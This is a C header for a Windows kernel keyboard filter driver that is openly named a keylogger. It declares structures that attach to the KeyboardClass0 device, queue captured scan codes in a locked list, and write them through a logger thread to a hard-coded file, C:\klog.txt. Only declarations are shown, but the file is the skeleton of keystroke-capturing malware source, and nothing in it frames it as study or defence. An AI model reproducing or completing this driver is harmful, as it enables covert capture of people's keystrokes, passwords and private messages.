#pragma once
#include <ntddk.h>
#include <ntddkbd.h>

#define KL_TAG          'golK'
#define KL_LOGFILE      L"\\??\\C:\\klog.txt"
#define KL_TARGET       L"\\Device\\KeyboardClass0"

#define KL_DBG(x, ...)  DbgPrint("[keylogr] " x "\n", __VA_ARGS__)

typedef struct _KL_KEY {
    LIST_ENTRY Link;
    USHORT     MakeCode;
    USHORT     Flags;
} KL_KEY, *PKL_KEY;

typedef struct _KL_STATE {
    PDEVICE_OBJECT FilterDevice;
    PDEVICE_OBJECT LowerDevice;

    HANDLE         ThreadHandle;
    KEVENT         WorkEvent;
    BOOLEAN        Stop;

    LIST_ENTRY     KeyList;
    KSPIN_LOCK     KeyLock;

    HANDLE         LogFile;
    volatile LONG  PendingIrps;
} KL_STATE;

extern KL_STATE g_Kl;

// logger.c
NTSTATUS KlOpenLog(VOID);
VOID     KlCloseLog(VOID);
KSTART_ROUTINE KlLoggerThread;
VOID     KlQueueKey(USHORT MakeCode, USHORT Flags);
